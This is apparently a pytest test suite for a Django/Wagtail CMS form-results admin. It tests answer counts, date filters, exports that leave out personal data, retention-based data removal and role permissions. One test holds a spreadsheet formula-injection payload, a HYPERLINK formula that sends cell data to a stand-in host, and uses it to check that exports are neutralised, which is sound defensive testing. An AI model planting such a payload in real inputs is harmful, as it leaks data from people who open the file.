"""A form's answers in the admin: counts and a chart per question counted by the database
(the same queries for 3 answers or 30), a date filter, Excel and CSV exports safe to open
and without personal columns for roles that may not read them, personal data removed
after the form's retention period, and every role against every URL of the feature."""

import csv
import io

import openpyxl
import pytest
import time_machine
from bs4 import BeautifulSoup
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from cms.forms_builder.models import FormAnswer, FormPageSubmission, FormUpload
from cms.forms_builder.submissions import record_submission
from cms.roles import HEAD, PRESS, ROLES
from tests.conftest import instant
from tests.factories.forms import PARK, SATISFACTION, answer, clean_names, field, survey_page

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n%%EOF\n"


@pytest.fixture
def survey(home):
    return survey_page(home)


@pytest.fixture
def press_client(client, user_with_role):
    client.force_login(user_with_role(PRESS))
    return client


def results_url(page, **query):
    url = reverse("kalem_form_results", args=[page.pk])
    return url + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


def rows_of(response, question):
    return dict(next(q for q in response.context["results"].questions if q.label == question).rows)


def test_results_count_each_answer_and_draw_a_chart(press_client, survey):
    for values in [("Her gün", "5"), ("Her gün", "4"), ("Hiç", "4"), ("Her gün", "2")]:
        answer(survey, *values)

    response = press_client.get(results_url(survey))

    assert response.status_code == 200
    assert rows_of(response, PARK) == {"Her gün": 3, "Haftada birkaç kez": 0, "Hiç": 1}
    assert rows_of(response, SATISFACTION) == {"1": 0, "2": 1, "3": 0, "4": 2, "5": 1}
    html = response.content.decode()
    assert "Bu dönemde 4 yanıt." in html
    assert "Ortalama: 3,75" in html
    assert html.count('class="pygal-chart"') == 2


@pytest.mark.clock("2026-11-24T10:00")
def test_results_filter_by_date_in_istanbul_days(press_client, survey):
    for moment, values in [
        ("2026-11-09T23:30", ("Hiç", "1")),  # the 9th in Istanbul, the 9th in UTC too
        ("2026-11-10T01:30", ("Her gün", "5")),  # the 10th in Istanbul, the 9th in UTC
        ("2026-11-12T12:00", ("Her gün", "4")),
        ("2026-11-13T00:30", ("Hiç", "2")),  # the 13th in Istanbul
    ]:
        with time_machine.travel(instant(moment)):
            answer(survey, *values)

    response = press_client.get(results_url(survey, start="10.11.2026", end="12.11.2026"))

    assert response.context["results"].total == 2
    assert rows_of(response, PARK) == {"Her gün": 2, "Haftada birkaç kez": 0, "Hiç": 0}


def test_a_reversed_period_is_a_message_naming_the_field(press_client, survey):
    response = press_client.get(results_url(survey, start="12.11.2026", end="10.11.2026"))

    assert response.status_code == 200
    assert "Bitiş: başlangıç tarihinden önce olamaz." in response.content.decode()


def test_the_results_page_takes_the_same_queries_for_3_and_30_answers(press_client, survey):
    def queries(count):
        FormPageSubmission.objects.all().delete()
        for number in range(count):
            answer(survey, ["Her gün", "Hiç"][number % 2], str(number % 5 + 1))
        press_client.get(results_url(survey))  # sessions, permissions cached alike
        with CaptureQueriesContext(connection) as captured:
            assert press_client.get(results_url(survey)).status_code == 200
        return len(captured)

    assert queries(3) == queries(30)


@pytest.fixture
def application(home):
    return survey_page(
        home,
        slug="basvuru",
        kind="registration",
        kvkk_notice="<p>Kayıt için.</p>",
        retention_days=30,
        fields=[
            field("Adınız soyadınız", "singleline", personal_data=True),
            field("Hangi atölye?", "dropdown", choices="Resim\nMüzik"),
            field("Notunuz", "multiline", required=False),
            field("Belge", "file", required=False),
        ],
    )


def register(page, name, workshop, note="", upload=None):
    names = clean_names(page)
    data = QueryDict(mutable=True)
    data.update({names[0]: name, names[1]: workshop, names[2]: note, "kvkk_consent": "on"})
    files = {names[3]: SimpleUploadedFile("belge.pdf", upload)} if upload else {}
    form = page.get_form(data, files, page=page)
    assert form.is_valid(), form.errors
    return record_submission(page, form)


def export(client, page, kind):
    url = reverse("wagtailforms:list_submissions", args=[page.pk]) + f"?export={kind}"
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_excel_export_leaves_out_personal_columns_for_press_staff(
    client, user_with_role, application
):
    register(application, "Zeynep Kaya", "Müzik", "Sabah gelebilirim")

    press, head = user_with_role(PRESS), user_with_role(HEAD)
    client.force_login(press)
    press_sheet = openpyxl.load_workbook(io.BytesIO(export(client, application, "xlsx"))).active
    client.force_login(head)
    head_sheet = openpyxl.load_workbook(io.BytesIO(export(client, application, "xlsx"))).active

    press_rows = [[cell.value for cell in row] for row in press_sheet.iter_rows()]
    head_rows = [[cell.value for cell in row] for row in head_sheet.iter_rows()]
    assert press_rows[0] == ["İletim tarihi", "Hangi atölye?", "Notunuz"]
    assert press_rows[1][1:] == ["Müzik", "Sabah gelebilirim"]
    assert head_rows[0] == [
        "İletim tarihi",
        "Adınız soyadınız",
        "Hangi atölye?",
        "Notunuz",
        "Belge",
    ]
    assert head_rows[1][1:4] == ["Zeynep Kaya", "Müzik", "Sabah gelebilirim"]
    # The answers list on screen hides the name from press staff too.
    client.force_login(press)
    listing = client.get(reverse("wagtailforms:list_submissions", args=[application.pk]))
    assert "Zeynep Kaya" not in listing.content.decode()
    assert "Sabah gelebilirim" in listing.content.decode()


def test_no_exported_cell_is_a_formula(client, user_with_role, application):
    hostile = '=HYPERLINK("http://kotu.example/?x="&A1,"Tıkla")'
    register(application, "Ali Veli", "Resim", hostile)
    client.force_login(user_with_role(HEAD))

    content = export(client, application, "csv")
    sheet = openpyxl.load_workbook(io.BytesIO(export(client, application, "xlsx"))).active

    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[1][3] == "'" + hostile
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.data_type for cell in cells if cell.value == hostile] == ["s"]


@pytest.mark.clock("2026-03-01T10:00", tick=False)
def test_personal_data_is_removed_after_the_forms_retention(
    application, django_capture_on_commit_callbacks
):
    with time_machine.travel(instant("2026-01-20T10:00")):
        old = register(application, "Zeynep Kaya", "Müzik", "Sabah", upload=PDF)
    with time_machine.travel(instant("2026-01-31T10:00")):
        recent = register(application, "Ali Veli", "Resim", "Öğlen")
    stored = FormUpload.objects.get().file.name
    assert storages["private"].exists(stored)

    # 1 March 10:00 is 40 days after the first answer and 29 after the second (30 kept).
    with django_capture_on_commit_callbacks(execute=True):
        call_command("remove_expired_form_data", stdout=io.StringIO())

    old.refresh_from_db()
    recent.refresh_from_db()
    name, workshop, note, document = clean_names(application)
    assert old.form_data[name] == ""
    assert old.form_data[document] == ""
    assert old.form_data[workshop] == "Müzik"
    assert old.personal_data_removed_at == instant("2026-03-01T10:00")
    assert not FormUpload.objects.exists()
    assert not storages["private"].exists(stored)
    assert recent.form_data[name] == "Ali Veli"
    assert recent.personal_data_removed_at is None
    # The counts stay: both still answered the workshop question.
    assert sorted(FormAnswer.objects.filter(field=workshop).values_list("value", flat=True)) == [
        "Müzik",
        "Resim",
    ]


# -- the role matrix

VIEWERS = {PRESS, HEAD}
PERSONAL = {HEAD}
REFUSED = (302, "/admin/")


@pytest.fixture
def matrix_records(application):
    submission = register(application, "Zeynep Kaya", "Müzik", upload=PDF)
    return application, submission


def matrix_urls(page, submission):
    link = storages["private"].url(submission.uploads.get().file.name)
    listing = reverse("wagtailforms:list_submissions", args=[page.pk])
    return [
        (reverse("kalem_form_results", args=[page.pk]), VIEWERS, "both"),
        (reverse("wagtailforms:index"), VIEWERS, "get"),
        (listing, VIEWERS, "both"),
        (listing + "?export=xlsx", VIEWERS, "get"),
        (reverse("wagtailforms:list_submissions_results", args=[page.pk]), VIEWERS, "get"),
        (
            reverse("kalem_form_delete_submissions", args=[page.pk])
            + f"?selected-submissions={submission.pk}",
            PERSONAL,
            "both",
        ),
        (link, PERSONAL, "get"),
    ]


def test_every_forms_admin_url_is_in_the_matrix(matrix_records):
    from tests.test_permission_matrix import FORMS, admin_url_names

    names = {name for name, _pattern in admin_url_names(FORMS)}
    assert names == {"kalem_form_results", "kalem_form_delete_submissions"}


@pytest.mark.parametrize("role", ROLES)
def test_each_role_gets_exactly_the_forms_screens_it_may(
    client, user_with_role, matrix_records, role
):
    page, submission = matrix_records
    client.force_login(user_with_role(role))
    mismatches = []
    for url, allowed_roles, methods in matrix_urls(page, submission):
        got = client.get(url)
        answer_ = (got.status_code, got.get("Location", "") if got.status_code == 302 else "")
        if role in allowed_roles:
            if got.status_code != 200:
                mismatches.append((url, "allowed", answer_))
        else:
            if answer_ != REFUSED:
                mismatches.append((url, "GET refused", answer_))
            if methods == "both":
                posted = client.post(url, {"selected-submissions": submission.pk})
                if posted.status_code != 302 or posted["Location"] != "/admin/":
                    mismatches.append((url, "POST refused", posted.status_code))
    assert mismatches == []
    assert FormPageSubmission.objects.filter(pk=submission.pk).exists()


def test_the_mudur_deletes_answers(client, user_with_role, matrix_records):
    page, submission = matrix_records
    client.force_login(user_with_role(HEAD))

    response = client.post(
        reverse("kalem_form_delete_submissions", args=[page.pk])
        + f"?selected-submissions={submission.pk}"
    )

    assert response.status_code == 302
    assert not FormPageSubmission.objects.exists()


def test_results_name_the_form_and_count_in_whole_numbers(press_client, survey):
    answer(survey, "Her gün", "4")

    response = press_client.get(results_url(survey))

    soup = BeautifulSoup(response.content, "html.parser")
    header = soup.select_one("main header").get_text(" ", strip=True)
    assert header == f"Sonuçlar {survey.title}"
    assert soup.title.get_text(strip=True).startswith(f"Sonuçlar: {survey.title}")
    charts = soup.select("svg.pygal-chart")
    assert len(charts) == 2
    # One answer: the count axis reads 0 and 1, not 0, 0.1 ... 0.9, 1; and the question is
    # the section's heading, not repeated as the chart's title.
    for chart in charts:
        ticks = [text.get_text(strip=True) for text in chart.select(".axis.x text")]
        assert ticks == ["0", "1"]
        assert chart.select(".title") == []
